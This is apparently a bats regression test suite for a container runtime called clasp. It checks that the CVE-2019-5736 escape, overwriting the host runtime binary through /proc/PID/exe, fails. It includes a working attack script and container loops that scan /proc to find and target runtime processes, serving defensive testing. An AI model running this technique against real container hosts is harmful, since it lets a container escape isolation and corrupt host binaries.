#!/usr/bin/env bats
# CVE-2019-5736 class: the runtime binary cannot be overwritten from inside a container.
# While a runtime process (the container's init before execve, an exec'd process before execve,
# the parent of a createContainer or startContainer hook) is visible in the container's pid
# namespace, a process there can open /proc/PID/exe. The attack writes through it at once
# (ETXTBSY while the runtime runs) and again later, through a file descriptor it keeps until
# every runtime process has exited. clasp defends by running create/run/exec from a sealed memfd
# copy of itself (src/util/selfexec.c), so /proc/PID/exe never names the host file.
# Every test attacks a copy of the binary, so that a regression cannot damage build/clasp, and
# checks the hash of both the copy and the real binary.

load ../integration/helpers

setup() {
	common_setup
	REAL_RUNTIME=$RUNTIME
	REAL_HASH=$(sha256sum <"$REAL_RUNTIME")
	cp "$RUNTIME" "$BATS_TEST_TMPDIR/rt-copy"
	RUNTIME=$BATS_TEST_TMPDIR/rt-copy
	COPY_HASH=$(sha256sum <"$RUNTIME")
	# X: shared between the host and the container (bind-mounted at /mnt); holds the attack
	# script, its log and the "go" flag for the late write.
	X=$BATS_TEST_TMPDIR/x
	mkdir "$X"
	chmod 777 "$X"
	traversable "$X"
	write_attack "$X/attack.sh"
	update_config ".mounts += [{\"destination\": \"/mnt\", \"type\": \"bind\", \"source\": \"$X\", \"options\": [\"bind\"]}]"
}

teardown() {
	touch "$X/go" 2>/dev/null || true
	common_teardown
}

# attack.sh EXE DIR: write EXE now; keep it open in a background process that writes again once
# DIR/go exists (after every runtime process is gone). Results go to DIR/log.
write_attack() {
	cat >"$1" <<'EOF'
#!/bin/sh
exe=$1
dir=$2
exec 4>>"$dir/log"
echo "target $exe -> $(readlink "$exe")" >&4
if (echo PWNED >>"$exe") 2>/dev/null; then echo direct-write-ok >&4; else echo direct-write-failed >&4; fi
if (exec 6<>"$exe") 2>/dev/null; then echo direct-open-rw-ok >&4; else echo direct-open-rw-failed >&4; fi
(
	command exec 5<"$dir"
	if ! command exec 3<"$exe"; then
		echo hold-failed >&4
		echo late-done >&4
		exit 0
	fi
	echo held >&4
	i=0
	# fd 5 keeps reaching DIR after pivot_root has moved this process's root.
	while [ ! -e /proc/self/fd/5/go ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i + 1)); done
	if (echo PWNED >>/proc/self/fd/3) 2>/dev/null; then echo late-write-ok >&4; else echo late-write-failed >&4; fi
	echo late-done >&4
) </dev/null >/dev/null 2>&1 &
exit 0
EOF
	chmod 755 "$1"
}

# The attack ran, and every write failed, and both binaries are intact.
assert_binary_intact() {
	echo "--- attack log:"
	cat "$X/log" || true
	grep -q '^target ' "$X/log"
	grep -qx direct-write-failed "$X/log"
	grep -qx direct-open-rw-failed "$X/log"
	grep -qx late-done "$X/log"
	refute grep -qx late-write-ok "$X/log"
	[ "$(sha256sum <"$RUNTIME")" = "$COPY_HASH" ]
	[ "$(sha256sum <"$REAL_RUNTIME")" = "$REAL_HASH" ]
}

exec_works() {
	local out
	out=$(rt exec "$1" true 2>&1) && return 0
	case "$out" in *"not implemented"*) skip "clasp exec is not implemented yet" ;; esac
	echo "exec failed: $out" >&2
	return 1
}

@test "CVE-2019-5736: a createContainer hook cannot overwrite the runtime through /proc/PID/exe" {
	# The hook runs inside the container's namespaces before pivot_root, as a child of the init
	# (still the runtime); the state on stdin names the init's pid.
	cat >"$X/hook.sh" <<EOF
#!/bin/sh
pid=\$(sed -n 's/.*"pid": *\([0-9]*\).*/\1/p')
exec "$X/attack.sh" "/proc/\$pid/exe" "$X"
EOF
	chmod 755 "$X/hook.sh"
	update_config ".hooks.createContainer = [{\"path\": \"$X/hook.sh\", \"timeout\": 10}]"
	set_cmd 'sleep 1000'
	id=$(new_id)
	run_d "$id"
	[ "$status" -eq 0 ] || {
		echo "$output"
		return 1
	}
	wait_for_output "$X/log" held
	touch "$X/go"
	wait_for_output "$X/log" late-done 20
	assert_binary_intact
}

@test "CVE-2019-5736: a startContainer hook cannot overwrite the runtime through /proc/PID/exe" {
	# startContainer runs after pivot_root, so its path resolves in the container: /mnt.
	cat >"$X/shook.sh" <<'EOF'
#!/bin/sh
exec /mnt/attack.sh "/proc/$PPID/exe" /mnt
EOF
	chmod 755 "$X/shook.sh"
	update_config '.hooks.startContainer = [{"path": "/mnt/shook.sh", "timeout": 10}]'
	set_cmd 'sleep 1000'
	id=$(new_id)
	run_d "$id"
	[ "$status" -eq 0 ] || {
		echo "$output"
		return 1
	}
	wait_for_output "$X/log" held
	touch "$X/go"
	wait_for_output "$X/log" late-done 20
	assert_binary_intact
}

# A privileged container (every capability, including CAP_SYS_PTRACE) attacks the next runtime
# process that appears in its pid namespace.
attacker_bundle() {
	local all='["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_DAC_READ_SEARCH","CAP_FOWNER","CAP_FSETID","CAP_KILL","CAP_SETGID","CAP_SETUID","CAP_SETPCAP","CAP_NET_ADMIN","CAP_SYS_CHROOT","CAP_SYS_PTRACE","CAP_SYS_ADMIN","CAP_MKNOD","CAP_AUDIT_WRITE"]'
	update_config ".process.capabilities = {\"bounding\": $all, \"effective\": $all, \"permitted\": $all} | .process.noNewPrivileges = false"
	set_cmd '
		echo watching >/mnt/watching
		i=0
		while [ $i -lt 400 ]; do
			for p in /proc/[0-9]*; do
				e=$(readlink $p/exe 2>/dev/null) || continue
				case "$e" in */busybox | "") continue ;; esac
				/mnt/attack.sh $p/exe /mnt
				sleep 1000
			done
			i=$((i + 1))
			sleep 0.05
		done
		sleep 1000'
}

@test "CVE-2019-5736: a container process cannot overwrite the runtime through another container's init" {
	attacker_bundle
	a=$(new_id attacker)
	run_d "$a"
	[ "$status" -eq 0 ]
	wait_for_file "$X/watching"
	apid=$(ct_pid "$a")
	# The victim joins the attacker's pid namespace; its init is the runtime until start.
	make_bundle "$BATS_TEST_TMPDIR/b"
	update_config ".linux.namespaces |= map(if .type == \"pid\" then .path = \"/proc/$apid/ns/pid\" else . end)" "$BATS_TEST_TMPDIR/b"
	set_cmd 'sleep 1000' "$BATS_TEST_TMPDIR/b"
	b=$(new_id victim)
	rt_bg create --bundle "$BATS_TEST_TMPDIR/b" "$b"
	[ "$status" -eq 0 ] || {
		echo "$output"
		return 1
	}
	wait_for_output "$X/log" held
	rt start "$b"
	touch "$X/go"
	wait_for_output "$X/log" late-done 20
	assert_binary_intact
}

@test "CVE-2019-5736: a container process cannot overwrite the runtime through an exec'd process" {
	attacker_bundle
	a=$(new_id attacker)
	run_d "$a"
	[ "$status" -eq 0 ]
	wait_for_file "$X/watching"
	exec_works "$a"
	# exec_works's own exec may already have been seen; start from a clean log.
	wait_for_output "$X/log" held 5 || true
	if ! grep -q '^target ' "$X/log" 2>/dev/null; then
		rt exec "$a" sleep 1
	fi
	wait_for_output "$X/log" held
	touch "$X/go"
	wait_for_output "$X/log" late-done 20
	assert_binary_intact
}

@test "CVE-2019-5736: an exec'd process cannot overwrite the runtime through a second exec" {
	set_cmd 'sleep 1000'
	a=$(new_id)
	run_d "$a"
	[ "$status" -eq 0 ]
	exec_works "$a"
	# The attacker is itself an exec'd process (default capabilities); the victim the next exec.
	rt_bg exec -d "$a" sh -c '
		i=0
		while [ $i -lt 400 ]; do
			for p in /proc/[0-9]*; do
				[ "$p" = /proc/$$ ] && continue
				e=$(readlink $p/exe 2>/dev/null) || continue
				case "$e" in */busybox | "") continue ;; esac
				/mnt/attack.sh $p/exe /mnt
				exit 0
			done
			i=$((i + 1))
			sleep 0.01
		done
		echo attacker-gave-up >>/mnt/log'
	sleep 0.3
	rt exec "$a" sleep 0.5 || true
	# An attacker without CAP_SYS_PTRACE may not even see the exe: that is a pass too.
	for _ in $(seq 100); do
		grep -q -e late-done -e attacker-gave-up "$X/log" 2>/dev/null && break
		grep -q '^held' "$X/log" 2>/dev/null && touch "$X/go"
		sleep 0.1
	done
	touch "$X/go"
	cat "$X/log" || true
	if grep -q '^target ' "$X/log"; then
		wait_for_output "$X/log" late-done 20
		refute grep -qx direct-write-ok "$X/log"
		refute grep -qx late-write-ok "$X/log"
	fi
	[ "$(sha256sum <"$RUNTIME")" = "$COPY_HASH" ]
	[ "$(sha256sum <"$REAL_RUNTIME")" = "$REAL_HASH" ]
}
